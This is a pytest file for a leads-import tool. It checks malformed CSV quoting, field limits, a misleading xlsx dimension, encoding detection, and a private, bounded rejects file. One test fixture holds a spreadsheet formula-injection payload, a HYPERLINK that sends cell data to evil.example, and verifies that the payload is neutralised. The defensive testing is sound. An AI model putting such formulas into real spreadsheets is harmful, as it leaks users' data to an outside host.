"""Lead files that used to lose rows with exit code 0, or made rejects files unsafe or huge."""

from __future__ import annotations

import os
import re
import stat
import zipfile
from pathlib import Path

import asyncpg
import pytest
from openpyxl import Workbook

from ccd.store import leads_import
from ccd.store.leads_import import LeadImportError, import_leads
from ccd.store.tabular import FIELD_LIMIT
from tests.store.test_import import leads, new_campaign, read_rejects, write


@pytest.fixture
async def conn(pool: asyncpg.Pool) -> asyncpg.Connection:
    async with pool.acquire() as c:
        yield c


def rows(n: int, start: int = 0) -> str:
    return "".join(f"+7916{i:07d},name {i}\n" for i in range(start, start + n))


async def test_unclosed_quote_is_an_error_naming_its_line(
    conn: asyncpg.Connection, tmp_path: Path
) -> None:
    cid = await new_campaign(conn)
    # The quote on line 3 is never closed: it used to swallow the 1000 rows below into a name.
    src = write(
        tmp_path / "q.csv", "phone,name\n" + rows(1) + '+79160000001,"Bob\n' + rows(1000, 2)
    )
    with pytest.raises(LeadImportError, match=r"q\.csv: line 3: a quoted field is never closed"):
        await import_leads(conn, cid, src)
    # Closed by the next quote in the file, that quote not ending a field.
    src = write(
        tmp_path / "q2.csv",
        "phone,name\n" + rows(1) + '+79160000001,"Bob\n' + rows(50, 2) + '+79169999999,"Al" x\n',
    )
    with pytest.raises(LeadImportError, match=r"line 3: a quoted field does not end .* line 54"):
        await import_leads(conn, cid, src)
    assert await leads(conn, cid) == []
    assert not [n for n in os.listdir(tmp_path) if "rejects" in n]


async def test_a_field_over_the_limit_is_an_error_naming_its_line(
    conn: asyncpg.Connection, tmp_path: Path
) -> None:
    cid = await new_campaign(conn)
    src = write(tmp_path / "long.csv", "phone,name\n" + rows(2) + "+79169999999," + "x" * (
        FIELD_LIMIT + 1) + "\n" + rows(2, 10))  # fmt: skip
    with pytest.raises(LeadImportError, match=r"line 4: a field is longer than 1,048,576"):
        await import_leads(conn, cid, src)
    assert await leads(conn, cid) == []


async def test_xlsx_with_a_wrong_dimension_imports_every_row(
    conn: asyncpg.Connection, tmp_path: Path
) -> None:
    cid = await new_campaign(conn)
    wb = Workbook()
    ws = wb.active
    ws.append(["phone", "name"])
    for i in range(1002):
        ws.append([f"+7916{i:07d}", f"n{i}"])
    made = tmp_path / "made.xlsx"
    wb.save(made)
    src = tmp_path / "lying.xlsx"
    with zipfile.ZipFile(made) as zin, zipfile.ZipFile(src, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data, n = re.subn(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:B3"', data)
                assert n == 1
            zout.writestr(item, data)
    result = await import_leads(conn, cid, src)
    assert (result.rows, result.loaded) == (1002, 1002)


LATIN1 = "phone;name;city\n+74951234567;Müller;Köln\n+74951234568;José Núñez;Málaga\n"


async def test_latin1_is_told_from_cp1251_and_encoding_overrides(
    conn: asyncpg.Connection, tmp_path: Path
) -> None:
    cid = await new_campaign(conn)
    src = write(tmp_path / "latin.csv", LATIN1, "latin-1")
    result = await import_leads(conn, cid, src)
    assert result.encoding == "cp1252"
    assert result.encoding_confidence is not None and result.encoding_confidence >= 0.8
    assert [r["name"] for r in await leads(conn, cid)] == ["Müller", "José Núñez"]

    russian = write(tmp_path / "ru.csv", "phone;name\n+74951234569;Иванов Пётр\n", "cp1251")
    result = await import_leads(conn, cid, russian)
    assert result.encoding == "cp1251" and result.encoding_confidence == pytest.approx(0.75)

    other = await new_campaign(conn, "other")
    result = await import_leads(conn, other, src, encoding="cp1251")  # as it used to guess
    assert (result.encoding, result.encoding_confidence) == ("cp1251", None)
    assert (await leads(conn, other))[0]["name"] == "Mьller"

    with pytest.raises(LeadImportError, match="--encoding nope: not an encoding"):
        await import_leads(conn, other, src, encoding="nope")
    with pytest.raises(LeadImportError, match=r"not utf-8: byte 30 on line 2"):
        await import_leads(conn, other, src, encoding="utf-8")


async def test_rejects_file_is_private_inert_and_bounded(
    conn: asyncpg.Connection, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cid = await new_campaign(conn)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    bad = [f'bad{i},"{formula.replace(chr(34), chr(34) * 2)}",,,\n' for i in range(200)]
    src = write(tmp_path / "r.csv", "phone,=name,x,y,z\n+74951234567,ok,,,\n" + "".join(bad))
    stale = tmp_path / "r-rejects.csv.999999999.part"
    stale.write_text("left by a killed import")
    monkeypatch.setattr(leads_import, "REJECTS_LIMIT", 2000)
    result = await import_leads(conn, cid, src)
    assert (result.loaded, result.rejected) == (1, 200)
    assert result.rejects_path == tmp_path / "r-rejects.csv"
    assert stat.S_IMODE(result.rejects_path.stat().st_mode) == 0o600
    assert not stale.exists()
    got = read_rejects(result.rejects_path)
    assert got[0] == ["line", "reason", "phone", "'=name", "x", "y", "z"]
    assert got[1] == ["3", "phone: not a phone number", "bad0", "'" + formula]  # no empty tail
    written = len(got) - 2
    assert 0 < written < 200 and result.rejects_unwritten == 200 - written
    assert got[-1] == [
        "",
        f"{200 - written} more rejected rows not written: this file stops at 0 MiB",
    ]
